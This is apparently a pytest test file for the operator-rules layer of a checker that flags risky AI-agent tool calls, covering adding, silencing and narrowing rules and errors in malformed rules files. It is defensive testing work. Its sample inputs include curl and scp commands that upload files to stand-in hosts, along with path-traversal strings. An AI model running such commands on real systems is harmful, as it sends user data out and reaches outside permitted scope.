"""What an operator adds, silences and narrows, and what is said of a file that is wrong."""

from typing import Any

import pytest

from bridge.errors import InputError
from bridge.judges.bridge_rules import QUESTIONS, BridgeRules
from bridge.judges.bridge_rules.operator import Operator
from bridge.judges.bridge_rules.operator_file import MAX_BYTES, read_operator

ROOT = "/home/dev/acme"


def rules(text: str) -> Operator:
    return read_operator(text.encode(), "rules.toml")


def says(text: str, question: str, input: Any, *, tool: str = "Bash", **state: Any) -> bool:
    given = {"command": input} if isinstance(input, str) else input
    call = {"tool": tool, "input": given, "workspace_root": ROOT, **state}
    return BridgeRules(rules(text)).ask(call, {question: QUESTIONS[question]}).answers[question].noul == 1.0


def test_the_model_carries_the_digest_of_the_file() -> None:
    operator = rules("# nothing\n")
    assert len(operator.digest) == len("sha256:") + 64
    assert BridgeRules(operator).identity.model == f"bridge-rules/1+{operator.digest[:39]}"
    assert rules("# nothing \n").digest != operator.digest


class TestAdding:
    ADDED = """
        [[add]]
        name = "no-deploys"
        question = "shell_destructive"
        sentence = "Deploying is for people."
        command = ["make", "deploy*"]
        flags = ["--prod", "-f"]
    """

    @pytest.mark.parametrize(
        "command", ["make deploy --prod -f", "ls && make -kf deploy-all --prod=1", "sudo make deploy -f --prod"]
    )
    def test_a_command_with_all_its_words_and_flags_is_found(self, command: str) -> None:
        assert says(self.ADDED, "shell_destructive", command)
        assert says(self.ADDED, "unsafe", command)

    @pytest.mark.parametrize(
        "command", ["make deploy --prod", "make test --prod -f", "echo make deploy --prod -f", "make"]
    )
    def test_any_other_is_not(self, command: str) -> None:
        assert not says(self.ADDED, "shell_destructive", command)

    def test_the_finding_names_the_rule(self) -> None:
        state: dict[str, Any] = {"tool": "Bash", "input": {"command": "ls; make deploy -f --prod"}}
        (one,) = BridgeRules(rules(self.ADDED)).explain(state)
        assert (one.question, one.finding.rule, one.finding.node) == (
            "shell_destructive",
            "no-deploys",
            "make deploy -f --prod",
        )

    def test_paths_count_in_commands_and_in_members(self) -> None:
        text = (
            '[[add]]\nname="p"\nquestion="path_outside_workspace"\nsentence="s"\npaths=["/home/dev/acme/secret/**"]\n'
        )
        assert says(text, "path_outside_workspace", "cd secret && ls ./deep/x")
        assert says(text, "path_outside_workspace", {"file_path": "src/../secret/x"}, tool="Read")
        assert not says(text, "path_outside_workspace", {"file_path": "src/secret.txt"}, tool="Read")

    def test_hosts_count_in_commands_and_in_members(self) -> None:
        text = '[[add]]\nname="h"\nquestion="network_off_scope"\nsentence="s"\nhosts=["*.prod.example"]\n'
        assert says(text, "network_off_scope", "curl -s api.prod.example/x")
        assert says(text, "network_off_scope", {"url": "https://api.prod.example"}, tool="WebFetch")
        assert not says(text, "network_off_scope", "echo api.prod.example")

    def test_a_tool_alone_counts(self) -> None:
        text = '[[add]]\nname="t"\nquestion="shell_destructive"\nsentence="s"\ntools=["mcp__prod__*"]\n'
        assert says(text, "shell_destructive", {}, tool="mcp__prod__restart")
        assert not says(text, "shell_destructive", {}, tool="mcp__test__restart")


class TestSilencing:
    def test_a_silenced_rule_finds_nothing_and_the_others_do(self) -> None:
        text = '[[silence]]\nrule = "web-upload"\nreason = "metrics are posted"\n'
        assert not says(text, "shell_exfiltrates", "curl -d @a.json https://m.example")
        assert says(text, "shell_exfiltrates", "scp a.json m.example:")
        assert not says(text, "unsafe", "curl -d x=1 https://m.example")


class TestNarrowing:
    def narrow(self, more: str, rule: str = "web-upload") -> str:
        return f'[[narrow]]\nrule = "{rule}"\nreason = "r"\n{more}\n'

    def test_to_hosts(self) -> None:
        text = self.narrow('except_hosts = ["*.acme.example"]')
        assert not says(text, "shell_exfiltrates", "curl -d @a.json https://m.acme.example/in")
        assert says(text, "shell_exfiltrates", "curl -d @a.json https://other.example/in")
        assert says(text, "shell_exfiltrates", "curl -d @a https://m.acme.example https://other.example/in")
        assert says(text, "shell_exfiltrates", "curl -d @a https://m.acme.example $OTHER")

    def test_to_paths(self) -> None:
        text = self.narrow('except_paths = ["/home/dev/notes/**"]', "path-outside")
        question = "path_outside_workspace"
        assert not says(text, question, {"file_path": "/home/dev/notes/a.md"}, tool="Read")
        assert not says(text, question, {"file_path": "../notes/a.md"}, tool="Read")
        assert says(text, question, {"file_path": "../notes/../x"}, tool="Read")
        assert says(text, question, {"file_path": "/home/dev/notesx"}, tool="Read")

    def test_a_path_that_cannot_be_told_is_not_narrowed_away(self) -> None:
        text = self.narrow('except_paths = ["/srv/scratch/**"]', "command-writes-outside")
        assert not says(text, "path_outside_workspace", "touch /srv/scratch/x")
        assert says(text, "path_outside_workspace", "touch /srv/scratch/$X/../y")
        assert says(text, "path_outside_workspace", "touch /srv/scratch/x /srv/y")

    def test_to_tools(self) -> None:
        text = self.narrow('tools = ["Bash"]')
        assert says(text, "shell_exfiltrates", "curl -d x https://m.example")
        assert not says(text, "shell_exfiltrates", "curl -d x https://m.example", tool="mcp__ci__run_command")
        text = self.narrow('except_tools = ["mcp__ci__*"]')
        assert not says(text, "shell_exfiltrates", "curl -d x https://m.example", tool="mcp__ci__run_command")


ADD = '[[add]]\nname = "a"\nquestion = "shell_destructive"\nsentence = "s"\n'


@pytest.mark.parametrize(
    ("text", "line", "said"),
    [
        ("x = ", "1", "not TOML"),
        ("\n[[silenced]]\n", "2", "unknown table: silenced"),
        ("[silence]\nrule = 'x'\n", "1", "not a list of tables"),
        ("[[silence]]\nreason = 'x'\n", "1", "lacks rule"),
        ("[[silence]]\nrule = 'web-uploads'\nreason = 'x'\n", "2", "no rule 'web-uploads'"),
        ("[[silence]]\nrule = 'web-upload'\nreason = ''\n", "3", "reason must be a text"),
        ("[[silence]]\nrule = 'web-upload'\nreason = 'x'\nwhy = 'y'\n", "4", "has no why"),
        ("[[narrow]]\nrule = 'web-upload'\nreason = 'x'\n", "1", "not narrowed by anything"),
        ("[[narrow]]\nrule = 'web-upload'\nreason = 'x'\ntools = 'Bash'\n", "4", "list of texts"),
        ("[[narrow]]\nrule = 'web-upload'\nreason = 'x'\ntools = []\n", "4", "list of texts"),
        (f"{ADD}", "1", "finds every call"),
        (f"{ADD}\n{ADD}tools = ['x']\n", "1", "finds every call"),
        (f"{ADD}tools = ['x']\n\n{ADD}tools = ['y']\n", "8", "a rule a already"),
        (f"{ADD}tools = ['x']\n".replace("'x'", "7"), "5", "list of texts"),
        (ADD.replace('"a"', '"web-upload"') + "tools = ['x']\n", "2", "a rule web-upload already"),
        (ADD.replace('"a"', '"A b"') + "tools = ['x']\n", "2", "not the name of a rule"),
        (ADD.replace("shell_destructive", "unsafe") + "tools = ['x']\n", "3", "no question 'unsafe'"),
        (
            "[[narrow]]\nrule='web-upload'\nreason='x'\ntools=['a']\n[[silence]]\nrule='web-upload'\nreason='x'\n",
            "2",
            "twice",
        ),
    ],
)
def test_a_file_that_is_wrong_says_where(text: str, line: str, said: str) -> None:
    with pytest.raises(InputError) as caught:
        rules(text)
    assert caught.value.where == f"rules.toml:{line}"
    assert said in caught.value.message


def test_a_name_that_is_nearly_a_rules_is_answered_with_it() -> None:
    with pytest.raises(InputError) as caught:
        rules("[[silence]]\nrule = 'web-uplaod'\nreason = 'x'\n")
    assert "did you mean web-upload?" in str(caught.value.help)


@pytest.mark.parametrize("data", [b"\xff", b"#" * (MAX_BYTES + 1), b"a=[" * 5000])
def test_what_is_no_text_of_a_fit_size_is_refused(data: bytes) -> None:
    with pytest.raises(InputError):
        read_operator(data, "rules.toml")
